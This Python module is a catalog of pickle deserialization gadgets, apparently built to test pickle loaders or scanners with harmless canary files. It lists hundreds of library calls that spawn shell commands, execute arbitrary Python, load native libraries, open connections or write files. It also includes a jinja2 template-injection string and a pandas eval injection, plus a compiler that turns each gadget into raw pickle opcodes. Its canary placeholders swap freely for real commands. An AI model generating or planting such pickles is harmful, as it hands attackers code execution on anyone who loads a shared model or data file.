"""gadgets - callables of installed libraries that reach a process, a connection, program text or
a file, each as a pickle in memory. Found by reading the libraries; no payload does more than make
its canary.

A gadget is written as an expression; `compile_pickle` turns it into opcodes: names become
STACK_GLOBAL, calls REDUCE, attributes of results calls of getattr. `M("a.b").c.d` is the name `c.d`
of the module `a.b`; a module of one word needs no M.
"""

from __future__ import annotations

import ast
import pickle
import re
import struct
import sys
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

# What stands for a gadget's own canary:
#   CANARY  the path of a file that is there if the gadget ran; PLACE its folder
#   TOUCH   a shell command that makes it; ARGV the same as words
#   CODE    Python text that makes it; EXPR the same as an expression; FILE a file of it; MODULE the name of that file as a module
#   HOST, PORT, URL  where a connection is waited for
#   LIBRARY a shared library whose constructor makes it (FOLDER/NAME.so)
#   INNER   a pickle that makes it; OLD a file to be moved or copied
OLD_MODULES = ("imp", "distutils", "mailcap", "nntplib", "telnetlib")  # gone in newer versions

SPAWN = """
os.system(TOUCH)
M("posix").system(TOUCH)
os.popen(TOUCH).read()
os.execv("/bin/sh", ["sh", "-c", TOUCH])
os.execvp("sh", ["sh", "-c", TOUCH])
os.execl("/bin/sh", "sh", "-c", TOUCH)
os.execlp("sh", "sh", "-c", TOUCH)
os.execve("/bin/sh", ["sh", "-c", TOUCH], {})
os.execvpe("sh", ["sh", "-c", TOUCH], {})
os.spawnv(0, "/bin/sh", ["sh", "-c", TOUCH])
os.spawnl(0, "/bin/sh", "sh", "-c", TOUCH)
os.spawnvp(0, "sh", ["sh", "-c", TOUCH])
os.spawnlp(0, "sh", "sh", "-c", TOUCH)
os.spawnve(0, "/bin/sh", ["sh", "-c", TOUCH], {})
os.waitpid(os.posix_spawn("/bin/sh", ["sh", "-c", TOUCH], {}), 0)
os.waitpid(os.posix_spawnp("sh", ["sh", "-c", TOUCH], {}), 0)
subprocess.Popen(ARGV).wait()
subprocess.call(ARGV)
subprocess.check_call(ARGV)
subprocess.check_output(ARGV)
subprocess.run(ARGV)
subprocess.run(TOUCH, shell=True)
subprocess.getoutput(TOUCH)
subprocess.getstatusoutput(TOUCH)
pty.spawn(ARGV)
asyncio.run(asyncio.create_subprocess_shell(TOUCH))
asyncio.run(asyncio.create_subprocess_exec("sh", "-c", TOUCH))
os.waitpid(M("multiprocessing.util").spawnv_passfds(b"/bin/sh", ["sh", "-c", TOUCH], ()), 0)
multiprocessing.Process(None, os.system, None, (TOUCH,)).start()
M("multiprocessing.pool").Pool(1).apply(os.system, (TOUCH,))
M("multiprocessing.pool").ThreadPool(1).apply(os.system, (TOUCH,))
M("concurrent.futures").ThreadPoolExecutor(1).submit(os.system, TOUCH).result()
M("concurrent.futures").ProcessPoolExecutor(1).submit(os.system, TOUCH).result()
threading.Thread(None, os.system, None, (TOUCH,)).start()
threading.Timer(0, os.system, (TOUCH,)).run()
_thread.start_new_thread(os.system, (TOUCH,))
M("distutils.spawn").spawn(ARGV)
M("setuptools._distutils.spawn").spawn(ARGV)
M("setuptools._distutils.util").execute(os.system, (TOUCH,))
pydoc.pipepager("", TOUCH)
pydoc.tempfilepager("", "cat >/dev/null; "  + (TOUCH) + (" #"))
webbrowser.GenericBrowser("touch").open(CANARY)
webbrowser.BackgroundBrowser("touch").open(CANARY)
webbrowser.Mozilla("touch")._invoke([CANARY], 0, 0)
imaplib.IMAP4_stream(TOUCH)
mailcap.findmatch({"a/b": [{"test": TOUCH, "view": "x"}]}, "a/b")
functools.partial(os.system, TOUCH)()
operator.methodcaller("system", TOUCH)(M("shutil").os)
operator.attrgetter("os.system")(M("importlib").import_module("shutil"))(TOUCH)
operator.call(os.system, TOUCH)
list(map(os.system, [TOUCH]))
list(filter(os.system, [TOUCH]))
list(itertools.starmap(os.system, [(TOUCH,)]))
sorted([TOUCH, TOUCH], key=os.system)
max([TOUCH, TOUCH], key=os.system)
next(iter(functools.partial(os.system, TOUCH), 0))
weakref.finalize(functools.partial(print), os.system, TOUCH)()
M("importlib._bootstrap")._call_with_frames_removed(os.system, TOUCH)
M("importlib._bootstrap")._find_and_load(TOUCH + (";.x"), os.system)
M("unittest.case").FunctionTestCase(functools.partial(os.system, TOUCH)).debug()
M("test.support.script_helper").assert_python_ok("-c", CODE)
M("logging.config").dictConfig({"version": 1, "handlers": {"a": {"()": "os.system", "command": TOUCH}}})
sched.scheduler().enter(0, 1, os.system, (TOUCH,)).action(TOUCH)
venv.create(CANARY)
M("numpy.testing._private.utils").runstring(CODE, {})
M("numpy.testing").measure(CODE)
M("torch.utils.collect_env").run(TOUCH)
M("torch.utils.collect_env").run_and_read_all(M("torch.utils.collect_env").run, TOUCH)
M("torch.utils.collect_env").run_and_parse_first_match(M("torch.utils.collect_env").run, TOUCH, "x")
M("torch.distributed.elastic.multiprocessing.subprocess_handler").SubprocessHandler("sh", ("-c", TOUCH), {}, None, None, 0, None)
M("torch._inductor.cpp_builder").run_compile_cmd(TOUCH, PLACE)
M("pip._vendor.pyproject_hooks").default_subprocess_runner(ARGV)
M("pip._vendor.pyproject_hooks").quiet_subprocess_runner(ARGV)
M("pip._internal.utils.subprocess").call_subprocess(ARGV, False, PLACE, command_desc="x")
M("joblib").Parallel(1)([(os.system, (TOUCH,), {})])
M("joblib.parallel").BatchedCalls([(os.system, (TOUCH,), {})], ("sequential", 1))()
M("joblib.memory").MemorizedFunc(os.system, PLACE).call(TOUCH)
M("pandas.core.common").pipe(TOUCH, os.system)
M("pandas").Series([TOUCH]).apply(os.system)
M("numpy").vectorize(os.system)(TOUCH)
M("numpy").frompyfunc(os.system, 1, 1)(TOUCH)
M("numpy").fromfunction(functools.partial(os.system, TOUCH), ())
M("dill._dill")._create_type(functools.partial(os.system, TOUCH))
"""

CODE = """
eval(EXPR)
exec(CODE)
exec(compile(CODE, "x", "exec"))
code.InteractiveInterpreter().runsource(CODE)
code.InteractiveConsole().push(CODE)
code.InteractiveInterpreter().runcode(compile(CODE, "x", "exec"))
types.FunctionType(compile(CODE, "x", "exec"), {})()
types.FunctionType(marshal.loads(marshal.dumps(compile(CODE, "x", "exec"))), {})()
runpy.run_path(FILE)
runpy._run_code(compile(CODE, "x", "exec"), {})
runpy._run_module_code(compile(CODE, "x", "exec"), {}, "x")
timeit.timeit(CODE, number=1)
timeit.repeat(CODE, number=1, repeat=1)
timeit.main(["-n1", "-r1", CODE])
timeit.Timer(CODE).timeit(1)
cProfile.run(CODE)
cProfile.runctx(CODE, {}, {})
profile.run(CODE)
profile.runctx(CODE, {}, {})
trace.Trace(0, 0).run(CODE)
bdb.Bdb().run(CODE)
pdb.Pdb.runeval(bdb.Bdb(), EXPR)
site.addpackage(PLACE, "run.pth", None)
M("importlib.machinery").SourceFileLoader("gadgetfile", FILE).load_module()
M("importlib._bootstrap_external").SourceFileLoader("gadgetfile", FILE).exec_module(types.ModuleType("gadgetfile"))
M("importlib._bootstrap")._load(M("importlib.util").spec_from_file_location("gadgetfile", FILE))
imp.load_source("gadgetfile", FILE)
zipimport.zipimporter(PLACE + ("/run.zip")).load_module("inzip")
pkgutil.ImpImporter(PLACE).find_module(MODULE).load_module(MODULE)
typing.get_type_hints(types.SimpleNamespace(__annotations__={"a": EXPR}))
typing.ForwardRef(EXPR)._evaluate({}, {}, frozenset())
collections.namedtuple.__globals__.get("_sys").modules.get("builtins").eval(EXPR)
M("numpy.f2py.crackfortran").myeval(EXPR)
M("torch.jit.unsupported_tensor_ops").execWrapper(CODE, {}, {})
M("torch.fx.graph_module")._exec_with_source(CODE, {})
M("torch.fx.graph_module")._forward_from_src(CODE + ("\\nforward = 1"), {})
M("torch.hub").load(PLACE, "entry", source="local")
M("torch.hub")._import_module.__call__("hubconf", FILE)
M("pandas").eval("@os.system('" + TOUCH + "')", engine="python", local_dict={"os": M("importlib").import_module("os")})
M("setuptools._distutils.core").run_setup(FILE)
M("pygments.lexers").load_lexer_from_file(FILE)
M("pygments.formatters").load_formatter_from_file(FILE)
M("sympy").sympify(EXPR)
M("sympy.parsing.sympy_parser").parse_expr(EXPR)
M("sympy.parsing.sympy_parser").eval_expr(EXPR, {}, {})
M("sympy").lambdify([], EXPR)()
M("jinja2").Template("{{ cycler.__init__.__globals__.os.popen('"  + (TOUCH) + ("').read() }}")).render()
M("jinja2.nativetypes").NativeEnvironment().from_string("{{ cycler.__init__.__globals__.os.popen('"  + (TOUCH) + ("').read() }}")).render()
M("dill._dill")._eval_repr(EXPR)
M("dill").loads(INNER)
M("dill._dill")._create_function(compile(CODE, "x", "exec"), {})()
M("cloudpickle").loads(INNER)
M("cloudpickle.cloudpickle").types.FunctionType(compile(CODE, "x", "exec"), {})()
M("joblib").load(io.BytesIO(INNER))
M("numpy").load(io.BytesIO(INNER), allow_pickle=True)
M("pandas").read_pickle(io.BytesIO(INNER))
M("torch").load(io.BytesIO(INNER), weights_only=False)
pickle.loads(INNER)
pickle._loads(INNER)
M("multiprocessing.reduction").ForkingPickler.loads(INNER)
"""

CONNECT = """
socket.create_connection((HOST, PORT))
socket.socket().connect((HOST, PORT))
socket.socket().connect_ex((HOST, PORT))
socket.socket(2, 2).sendto(b"x", (HOST, PORT))
ftplib.FTP().connect(HOST, PORT)
smtplib.SMTP(HOST, PORT)
poplib.POP3(HOST, PORT)
imaplib.IMAP4(HOST, PORT)
nntplib.NNTP(HOST, PORT)
telnetlib.Telnet(HOST, PORT)
M("http.client").HTTPConnection(HOST, PORT).connect()
M("http.client").HTTPConnection(HOST, PORT).request("GET", "/")
M("urllib.request").urlopen(URL)
M("urllib.request").urlretrieve(URL)
M("xmlrpc.client").ServerProxy(URL).method()
asyncio.run(asyncio.open_connection(HOST, PORT))
M("multiprocessing.connection").Client((HOST, PORT))
M("multiprocessing.managers").BaseManager((HOST, PORT), b"x").connect()
M("logging.handlers").SocketHandler(HOST, PORT).createSocket()
M("logging.handlers").SysLogHandler((HOST, PORT), socktype=1)
ssl.get_server_certificate((HOST, PORT))
M("numpy").loadtxt(URL)
M("numpy").genfromtxt(URL)
M("numpy.lib.npyio").DataSource().open(URL)
M("pandas").read_csv(URL)
M("pandas").read_json(URL)
M("pandas.io.common").urlopen(URL)
M("torch.hub").download_url_to_file(URL, "/tmp/never")
M("torch.hub").load_state_dict_from_url(URL)
M("pip._vendor.requests").get(URL)
M("pip._vendor.urllib3").PoolManager().request("GET", URL)
M("sklearn.datasets._base")._fetch_remote(M("sklearn.datasets._base").RemoteFileMetadata("x", URL, "0"), delay=0, n_retries=0)
M("torch.distributed").TCPStore(HOST, PORT, 2, False, datetime.timedelta(0, 2))
"""

NATIVE = """
ctypes.CDLL(LIBRARY)
ctypes.PyDLL(LIBRARY)
ctypes.cdll.LoadLibrary(LIBRARY)
M("_ctypes").dlopen(LIBRARY, 2)
ctypes.CDLL(None).system(TOUCH.encode())
ctypes.pythonapi.PyRun_SimpleString(CODE.encode())
M("_imp").create_dynamic(M("importlib.machinery").ModuleSpec("gadgetlib", None, origin=LIBRARY))
M("importlib.machinery").ExtensionFileLoader("gadgetlib", LIBRARY).load_module()
imp.load_dynamic("gadgetlib", LIBRARY)
M("numpy.ctypeslib").load_library("run.so", PLACE)
M("torch").ops.load_library(LIBRARY)
M("torch").classes.load_library(LIBRARY)
"""

FILES = """
open(CANARY, "w")
open(CANARY, "a")
open(CANARY, "xb")
io.open(CANARY, "w")
io.FileIO(CANARY, "w")
M("_io").open(CANARY, "w")
M("_pyio").open(CANARY, "w")
codecs.open(CANARY, "w")
os.open(CANARY, 65)
os.mkdir(CANARY)
os.makedirs(CANARY)
os.symlink("/", CANARY)
os.rename(OLD, CANARY)
os.replace(OLD, CANARY)
os.link(OLD, CANARY)
pathlib.Path(CANARY).write_text("")
pathlib.Path(CANARY).touch()
pathlib.Path(CANARY).mkdir()
pathlib.Path(CANARY).symlink_to("/")
pathlib.Path(OLD).rename(CANARY)
shutil.copy(OLD, CANARY)
shutil.copyfile(OLD, CANARY)
shutil.move(OLD, CANARY)
shutil.copytree("/proc/self/ns", CANARY, ignore_dangling_symlinks=True)
shutil.make_archive(CANARY, "tar", "/proc/self/attr")
tempfile.NamedTemporaryFile(dir=PLACE, prefix="canary", delete=False)
tempfile.mkstemp("", "canary", PLACE)
tempfile.mkdtemp("", "canary", PLACE)
gzip.open(CANARY, "wb")
bz2.open(CANARY, "wb")
lzma.open(CANARY, "wb")
zipfile.ZipFile(CANARY, "w")
tarfile.open(CANARY, "w")
shelve.open(CANARY)
M("dbm.dumb").open(CANARY, "c")
sqlite3.connect(CANARY)
logging.FileHandler(CANARY)
M("logging.handlers").RotatingFileHandler(CANARY)
M("logging.config").dictConfig({"version": 1, "handlers": {"a": {"class": "logging.FileHandler", "filename": CANARY}}})
mailbox.mbox(CANARY)
mailbox.Maildir(CANARY)
wave.open(CANARY, "wb")
M("http.cookiejar").MozillaCookieJar(CANARY).save()
cProfile.Profile().dump_stats(CANARY)
py_compile.compile(FILE, CANARY)
zipapp.create_archive(PLACE + ("/app"), CANARY, main="a:b")
M("xml.etree.ElementTree").ElementTree(M("xml.etree.ElementTree").Element("a")).write(CANARY)
M("logging").basicConfig(filename=CANARY, force=True)
M("numpy").save(CANARY, 1)
M("numpy").savetxt(CANARY, [1])
M("numpy").savez(CANARY, 1)
M("numpy").memmap(CANARY, "u1", "w+", 0, (4,))
M("numpy").array([1]).tofile(CANARY)
M("numpy").array([1]).dump(CANARY)
M("torch").save(1, CANARY)
M("torch").from_file(CANARY, shared=True, size=4)
M("torch").UntypedStorage.from_file(CANARY, True, 4)
M("torch._C").PyTorchFileWriter(CANARY)
M("torch.package").PackageExporter(CANARY)
M("pandas").DataFrame({"a": [1]}).to_csv(CANARY)
M("pandas").DataFrame({"a": [1]}).to_json(CANARY)
M("pandas").to_pickle(1, CANARY)
M("pandas.io.common").get_handle(CANARY, "w")
M("joblib").dump(1, CANARY)
M("scipy.io").savemat(CANARY, {"a": 1}, appendmat=False)
M("scipy.io").mmwrite(CANARY, M("numpy").eye(2))
M("scipy.io.wavfile").write(CANARY, 8000, M("numpy").array([1]))
M("h5py").File(CANARY, "w")
M("networkx").write_gml(M("networkx").Graph(), CANARY)
M("fsspec").open(CANARY, "w").open()
M("fsspec.implementations.local").LocalFileSystem().touch(CANARY)
M("fsspec.implementations.local").LocalFileSystem().mkdir(CANARY)
M("filelock").FileLock(CANARY).acquire()
M("zstandard").open(CANARY, "wb")
M("lz4.frame").open(CANARY, "wb")
M("setuptools._distutils.file_util").write_file(CANARY, ["a"])
M("setuptools._distutils.file_util").copy_file(OLD, CANARY)
M("setuptools._distutils.dir_util").mkpath(CANARY)
M("jinja2").Environment(loader=M("jinja2").DictLoader({"a": ""})).compile_templates(CANARY, zip=None)
M("dill").dump_module(CANARY)
M("pip._internal.utils.misc").ensure_dir(CANARY)
"""


@dataclass(frozen=True)
class Gadget:
    """One way from a pickle to an effect."""

    name: str
    expression: str
    effect: str  # what it does in the end: spawn, code, connect, native or file


def _read(effect: str, table: str) -> list[Gadget]:
    gadgets = []
    for number, line in enumerate(filter(None, table.splitlines())):
        called = re.sub(r'M\("([\w.]+)"\)', r"\1", line).split("(")[0]
        gadgets.append(Gadget(f"{effect}{number}:{called}", line, effect))
    return gadgets


GADGETS = [
    *_read("spawn", SPAWN),
    *_read("code", CODE),
    *_read("connect", CONNECT),
    *_read("native", NATIVE),
    *_read("file", FILES),
]


class Writer:
    """Opcodes for one expression."""

    def __init__(self, words: dict[str, Any]) -> None:
        self.out = bytearray(b"\x80\x04")
        self.words = words

    def text(self, value: str) -> None:
        data = value.encode("utf-8")
        self.out += b"X" + struct.pack("<I", len(data)) + data

    def name(self, module: str, qualname: str) -> None:
        self.text(module)
        self.text(qualname)
        self.out += b"\x93"  # STACK_GLOBAL

    def items(self, nodes: list[ast.expr]) -> None:
        for node in nodes:
            self.visit(node)

    def visit(self, node: ast.expr) -> None:
        handler: Callable[[Any], None] = getattr(self, f"on_{type(node).__name__.lower()}")
        handler(node)

    def on_constant(self, node: ast.Constant) -> None:
        if isinstance(node.value, str):
            self.text(node.value)
        else:
            self.out += pickle.dumps(node.value, 2)[2:-1].replace(b"q\x00", b"")

    def on_name(self, node: ast.Name) -> None:
        if node.id in self.words:
            self.visit(ast.parse(repr(self.words[node.id]), mode="eval").body)
        elif node.id in sys.stdlib_module_names:
            raise ValueError(f"a module is no value: {node.id}")
        else:
            self.name("builtins", node.id)

    def on_attribute(self, node: ast.Attribute) -> None:
        path = [node.attr]
        root = node.value
        while isinstance(root, ast.Attribute):
            path.insert(0, root.attr)
            root = root.value
        module = module_of(root, self.words)
        if module:
            self.name(module, ".".join(path))
            return
        self.name("builtins", "getattr")
        self.out += b"("
        self.visit(node.value)
        self.text(node.attr)
        self.out += b"tR"

    def on_binop(self, node: ast.BinOp) -> None:
        self.name("operator", "add")
        self.out += b"("
        self.items([node.left, node.right])
        self.out += b"tR"

    def on_tuple(self, node: ast.Tuple) -> None:
        self.out += b"("
        self.items(node.elts)
        self.out += b"t"

    def on_list(self, node: ast.List) -> None:
        self.out += b"]("
        self.items(node.elts)
        self.out += b"e"

    def on_dict(self, node: ast.Dict) -> None:
        self.out += b"}("
        for key, value in zip(node.keys, node.values, strict=True):
            self.items([key, value] if key else [value])
        self.out += b"u"

    def on_call(self, node: ast.Call) -> None:
        if not node.keywords:
            self.visit(node.func)
            self.out += b"("
            self.items(node.args)
            self.out += b"tR"
            return
        # A partial of the function is given the state (function, arguments, keywords, None).
        self.name("functools", "partial")
        self.out += b"("
        self.visit(node.func)
        self.out += b"tR("
        self.visit(node.func)
        self.out += b"("
        self.items(node.args)
        self.out += b"t}("
        for keyword in node.keywords:
            self.text(str(keyword.arg))
            self.visit(keyword.value)
        self.out += b"uNtb)R"


def module_of(node: ast.expr, words: dict[str, Any]) -> str | None:
    """The module that an expression is: a word, or M("a.b")."""
    if isinstance(node, ast.Name) and node.id not in words and node.id in sys.stdlib_module_names:
        return node.id
    if isinstance(node, ast.Name) and node.id in OLD_MODULES:
        return node.id
    match node:
        case ast.Call(func=ast.Name(id="M"), args=[ast.Constant(value=str(name))]):
            return name
    return None


def compile_pickle(gadget: Gadget, words: dict[str, Any]) -> bytes:
    writer = Writer(words)
    writer.visit(ast.parse(gadget.expression, mode="eval").body)
    return bytes(writer.out) + b"."
